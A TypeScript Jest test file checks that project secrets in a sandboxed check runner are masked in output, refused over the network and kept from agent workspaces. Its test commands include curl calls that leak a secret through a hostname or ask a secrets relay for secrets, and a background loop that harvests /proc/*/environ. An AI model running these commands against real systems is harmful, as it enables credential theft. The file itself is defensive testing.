import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { startTestDoor } from '../testing/door.ts';
import type { TestDoor } from '../testing/door.ts';
import { dataOf, localForTest, nothingSeen, testJob, testTurn, textOf, watchTurn, watchUntil } from '../testing/harness.ts';
import type { Watched } from '../testing/harness.ts';

const value = 'sup3r/secret canary';
const host = 'CanaryHost77';
const secrets = [
  { name: 'DB_KEY', value },
  { name: 'HOST_KEY', value: host },
];

let door: TestDoor;
let local: ReturnType<typeof localForTest>;
let commit: string;
let count = 0;

beforeAll(async () => {
  door = await startTestDoor();
  commit = door.commit({ 'a.txt': 'hello\n' });
  local = localForTest(door);
});

afterEach(() => {
  door.secrets = { status: 200, body: { secrets: [] } };
});

afterAll(async () => {
  await local.close();
  await door.close();
});

/** Runs checks in a clean place, and answers all that it wrote. */
async function check(commands: Record<string, string>, setup: string | null = null): Promise<Watched> {
  count += 1;
  const job = testJob(commit, { workspaceId: `k${count}`, executor: { name: 'none' }, setup });
  const workspace = await local.provisioner.create({ job, runToken: door.runToken });
  const list = Object.entries(commands).map(([name, command]) => ({ name, command }));
  await workspace.deliver({ messageId: 'x1', kind: 'exec', timeoutMs: 60_000, commands: list });
  const seen = await watchUntil(workspace, nothingSeen, ({ type }) => type === 'command.done');
  await local.provisioner.destroy(workspace.workspaceId);
  return seen;
}

describe('secrets of a project', () => {
  it('are in the environment of each check, and of nothing else', async () => {
    door.secrets.body = { secrets };
    const test = `test "$DB_KEY" = '${value}'`;

    const seen = await check({ one: test, DB_KEY: test }, 'test -z "$DB_KEY"; env');

    expect(dataOf(seen, 'exec.completed')).toMatchObject([
      { name: 'one', status: 'passed' },
      { name: 'DB_KEY', status: 'passed' },
    ]);
    expect(textOf(seen, 'setup.output')).not.toContain('DB_KEY');
  });

  it('are masked in whatever checks say: in clear, encoded, split, over both outputs, and as a host', async () => {
    door.secrets.body = { secrets };
    const commands = {
      clear: 'echo "key=$DB_KEY"; echo "$DB_KEY" >&2',
      base64: 'printf %s "$DB_KEY" | base64; printf "user:%s" "$DB_KEY" | base64',
      split: 'printf "sup3r/sec"; sleep 0.3; printf "ret can"; sleep 0.3; echo ary',
      both: 'printf "sup3r/sec"; sleep 0.3; printf "ret canary" >&2; sleep 0.3; echo .',
      host: 'curl -s "https://$HOST_KEY.example" || true',
      url: 'echo "https://host.example/?q=sup3r%2Fsecret%20canary"',
      end: 'printf "sup3r/secr"',
    };

    const seen = await check(commands);

    const texts = Object.fromEntries(
      Object.keys(commands).map((name) => [
        name,
        dataOf(seen, 'exec.output')
          .flatMap((each) => (each.name === name ? [each.text] : []))
          .join(''),
      ]),
    );
    expect(texts).toMatchObject({
      split: '[secret DB_KEY]\n',
      url: 'https://host.example/?q=[secret DB_KEY]\n',
      end: 'sup3r/secr',
    });
    expect(texts['clear']?.split('\n').toSorted()).toEqual(['', '[secret DB_KEY]', 'key=[secret DB_KEY]']);
    expect(texts['base64']).toMatch(/^\[secret DB_KEY\]\n.{0,8}\[secret DB_KEY\].{0,4}\n$/);
    expect(dataOf(seen, 'egress.refused')).toMatchObject([{ host: '[secret HOST_KEY].example', port: 443 }]);
    expect(JSON.stringify(seen.events).toLowerCase()).not.toContain(host.toLowerCase());
    expect(JSON.stringify(seen.events)).not.toContain(value);
  });

  it('cannot be asked for by what checks start', async () => {
    door.secrets.body = { secrets };

    const seen = await check({ ask: 'curl -s --noproxy "*" "$HTTP_PROXY/secrets/checks"; curl -s http://gateway/secrets/checks' });

    expect(textOf(seen, 'exec.output')).toBe('{"code":"relay-forbidden"}'.repeat(2));
  });

  it('meet nothing that setup left running', async () => {
    door.secrets.body = { secrets };
    const setup =
      'setsid sh -c "while sleep 0.1; do cat /proc/[0-9]*/environ > /tmp/seen 2>/dev/null; cp /tmp/seen found.txt; done" >/dev/null 2>&1 &';

    const seen = await check({ wait: 'sleep 1; cat found.txt 2>/dev/null | tr "\\0" "\\n" | grep DB_KEY; echo looked' }, setup);

    expect(textOf(seen, 'exec.output')).toBe('looked\n');
  });

  it('that cannot be read end the checks with the reason, and no check runs without them', async () => {
    door.secrets = { status: 409, body: { code: 'project-secret-unreadable', message: 'reading the project’s secrets: DB_KEY …' } };

    const seen = await check({ one: 'echo ran' });

    expect(dataOf(seen, 'command.done')).toMatchObject([
      { messageId: 'x1', ok: false, error: 'checks: reading the project’s secrets: DB_KEY …', code: 'project-secrets-refused' },
    ]);
    expect(dataOf(seen, 'error')).toEqual([{ message: 'checks: reading the project’s secrets: DB_KEY …' }]);
    expect(dataOf(seen, 'exec.completed')).toEqual([]);
  });

  it('are not to be had in a workspace of an agent', async () => {
    door.secrets.body = { secrets };
    const job = testJob(commit, {
      workspaceId: 'agent',
      executor: {
        name: 'command',
        command: 'env; curl -s --noproxy "*" "$HTTP_PROXY/secrets/checks"; curl -s http://gateway/secrets/checks; echo tried',
      },
    });
    const workspace = await local.provisioner.create({ job, runToken: door.runToken });

    await workspace.deliver(testTurn('m1', 'x'));
    const { seen } = await watchTurn(workspace);

    expect(textOf(seen, 'agent.delta')).toContain('tried');
    expect(JSON.stringify(seen.events)).not.toContain('canary');
  });
});
